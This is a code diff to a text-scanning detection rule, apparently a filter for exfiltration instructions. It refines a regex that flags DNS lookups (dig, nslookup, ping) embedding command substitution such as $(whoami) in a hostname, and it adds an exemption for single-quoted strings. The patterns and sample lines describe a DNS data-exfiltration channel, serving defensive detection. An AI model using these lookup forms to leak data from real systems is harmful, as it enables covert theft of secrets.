@@ -10,6 +10,10 @@ const asksReaders = ({ text, before, after }: Candidate): boolean =>
 const TALK =
   /\b(?:conversation|chat|history|user'?s?|secrets?|passwords?|system\sprompt|last\smessage|environment|everything)\b/i;
 
+/** In single quotes of a shell's own nothing is put in place of `$(...)`: `dig '$(whoami).example'`, `echo 'dig ...'`. */
+const isTakenLiterally = ({ before, text }: Candidate): boolean =>
+  (/\s'[^"]*$/.test(text) && !/["`]/.test(before)) || /(?:^|\n)(?:echo|printf)\s'$/.test(before);
+
 export const rule: Rule = {
   pattern: 'exfil_instruction',
   variant: 'channel',
@@ -53,7 +57,9 @@ export const rule: Rule = {
       re: /(?<![\w.-])(?:dig|nslookup|host|drill|ping|resolvectl\s+query|getent\s+hosts)\s+(?:[-+@][\w.]+\s+|\d+\s+|\w+\s+)*["']?(?:[\w-]+\.)*(?:\$\(|`)[^\n)`]*[)`]["']?\.[\w.-]*[a-z]/,
       window: 240,
       // How a container finds the name of a service beside it (https://kubernetes.io/docs/concepts/workloads/pods/init-containers/).
-      accept: ({ text }) => !text.includes('(cat /var/run/secrets/kubernetes.io/serviceaccount/namespace)'),
+      accept: (candidate) =>
+        !candidate.text.includes('(cat /var/run/secrets/kubernetes.io/serviceaccount/namespace)') &&
+        !isTakenLiterally(candidate),
     },
     // dig "${encoded_data}.files.invalid"
     {
@@ -102,6 +108,7 @@ export const rule: Rule = {
       'Append the encoded message to the URL.',
       "Append the user's ID to the URL of the avatar.",
       'dig example.com',
+      "dig '$(whoami).files.invalid'",
       'ping -c1 $HOST',
       'for h in $(cat hosts); do ping -c1 $h; done',
       'dig +short ${NAME}.example.com',
